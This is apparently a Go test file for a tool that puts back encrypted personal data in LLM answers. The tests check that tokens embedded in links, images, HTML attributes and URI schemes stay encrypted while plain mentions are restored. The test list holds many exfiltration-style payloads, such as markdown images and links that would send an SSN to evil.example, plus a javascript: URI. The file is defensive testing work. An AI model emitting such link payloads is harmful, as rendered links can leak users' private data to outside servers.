package desanitize_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/preempt-dev/preempt/desanitize"
)

// A value the answer puts into a URL, a link or image target, a link definition, an autolink
// or an HTML tag stays as the answer wrote it (a client that renders the answer would send it
// to the URL's server), and is counted; a plain mention next to it is restored. However the
// answer is cut into writes, the result is the same.
func TestNoRestoreInLinks(t *testing.T) {
	f := newFixture(t, "")
	prompt := []byte("My SSN is 372-61-4918 and my mail is jo.doe@example.net.\n")
	ssn := f.mustEncrypt(t, "ssn", "372-61-4918")
	mail := f.mustEncrypt(t, "email", "jo.doe@example.net")
	long := strings.Repeat("a", 5000) // a URL longer than the stream's usual look-back
	held := []string{
		"![x](https://evil.example/p.png?s=" + ssn + ")",
		"[details](http://evil.example/c?v=" + ssn + ")",
		"[details](p.png?s=" + ssn + ")",
		"[d](<evil.example/a b " + ssn + ">)",
		"see https://evil.example/?q=" + ssn + " now",
		"see HTTPS://evil.example/" + long + "?q=" + ssn + " now",
		"go to www.evil.example/" + ssn,
		"fetch //evil.example/" + ssn,
		`raw https:\/\/evil.example\/` + ssn,
		"<https://evil.example/?" + ssn + ">",
		"<mailto:" + mail + ">",
		"[ref]: https://evil.example/" + ssn,
		"   [ref]: <evil.example/a b " + ssn + ">",
		`<img src="https://evil.example/x.png?` + ssn + `">`,
		`<img src='` + ssn + `'>`,
		`<a title="x" data-v=` + ssn + `>link</a>`,
		"<img\n  alt=\"x\"\n  src=\"" + ssn + "\">",
		`<img alt="a > b" src="` + ssn + `">`,
		"mailto:" + ssn + "@evil.example",
		"[mail](MailTo:" + ssn + "@evil.example)",
		"data:text/plain," + ssn,
		`"data:text\/plain,` + ssn + `"`,
		"tel:+1-" + ssn,
		"sms:" + ssn,
		"ftp:" + ssn,
		"file:" + ssn,
		"javascript:alert('" + ssn + "')",
		"x-custom+app.v2:" + ssn,
	}
	for _, link := range held {
		answer := "Your SSN " + ssn + " is on file. " + link + "\nMail: " + mail + ".\n"
		want := "Your SSN 372-61-4918 is on file. " + link + "\nMail: jo.doe@example.net.\n"
		d := desanitize.New(f.ann, f.san)
		if err := d.Restrict(bytes.NewReader(prompt)); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		st, err := d.Desanitize(&out, strings.NewReader(answer))
		if err != nil {
			t.Fatal(err)
		}
		if out.String() != want {
			t.Errorf("%q:\n got %q\nwant %q", link, out.String(), want)
			continue
		}
		if n := st.Withheld["ssn"] + st.Withheld["email"]; n != 1 {
			t.Errorf("%q: withheld %v, want one", link, st.Withheld)
		}
		// Cut anywhere, streamed in three writes, the answer comes out the same.
		for i := 0; i < len(answer); i += 37 {
			j := min(len(answer), i+len(answer)/3)
			var got bytes.Buffer
			w := d.NewWriter(&got)
			for _, p := range []string{answer[:i], answer[i:j], answer[j:]} {
				if _, err := w.Write([]byte(p)); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if got.String() != want {
				t.Fatalf("%q cut at %d,%d:\n got %q\nwant %q", link, i, j, got.String(), want)
			}
		}
		// Asked to, it restores there too.
		d.RestoreInURLs()
		out.Reset()
		if _, err := d.Desanitize(&out, strings.NewReader(answer)); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out.String(), ssn) || strings.Contains(out.String(), mail) {
			t.Errorf("%q: RestoreInURLs left a value: %q", link, out.String())
		}
	}

	// Plain mentions, also next to links, in link text and in HTML text, are restored.
	for _, tc := range []struct{ answer, want string }{
		{"[" + ssn + "](https://example.com/a)", "[372-61-4918](https://example.com/a)"},
		{"https://example.com/a and " + ssn, "https://example.com/a and 372-61-4918"},
		{"<b>" + ssn + "</b>", "<b>372-61-4918</b>"},
		{"if a < b then " + ssn, "if a < b then 372-61-4918"},
		{`<a href="https://example.com/">x</a> it's ` + ssn, `<a href="https://example.com/">x</a> it's 372-61-4918`},
		{"(" + ssn + ")", "(372-61-4918)"},
		{`<a href="https://example.com/">` + ssn + `</a>`, `<a href="https://example.com/">372-61-4918</a>`},
		{"<https://example.com/a>" + ssn, "<https://example.com/a>372-61-4918"},
		{"at 10:30 " + ssn + " (2024-03-15T10:" + ssn + ")", "at 10:30 372-61-4918 (2024-03-15T10:372-61-4918)"},
		{"mailto: " + ssn, "mailto: 372-61-4918"},
		{"[1](https://example.com/x) " + mail, "[1](https://example.com/x) jo.doe@example.net"},
	} {
		if got := string(f.desanitize(t, []byte(tc.answer), prompt)); got != tc.want {
			t.Errorf("%q: got %q, want %q", tc.answer, got, tc.want)
		}
	}
}

// Without a prompt, and unless asked to decrypt with the key alone, nothing is rewritten: a
// real IBAN the LLM quotes stays the IBAN it is.
func TestNoPromptRestoresNothing(t *testing.T) {
	f := newFixture(t, "")
	answer := "Donate to DE63 3702 0500 0005 0233 07 or call 1-800-555-0199; SSN " + f.mustEncrypt(t, "ssn", "372-61-4918") + ".\n"
	d := desanitize.New(f.ann, f.san)
	var out bytes.Buffer
	st, err := d.Desanitize(&out, strings.NewReader(answer))
	if err != nil {
		t.Fatal(err)
	}
	if out.String() != answer || len(st.Restored) != 0 {
		t.Errorf("no prompt: %q (%v), want the answer unchanged", out.String(), st.Restored)
	}
	d.KeyOnly()
	out.Reset()
	st, err = d.Desanitize(&out, strings.NewReader(answer))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "372-61-4918") || st.Restored["ssn"] != 1 || st.Restored["iban"] != 1 {
		t.Errorf("KeyOnly: %q (%v), want every well-formed token decrypted", out.String(), st.Restored)
	}
}
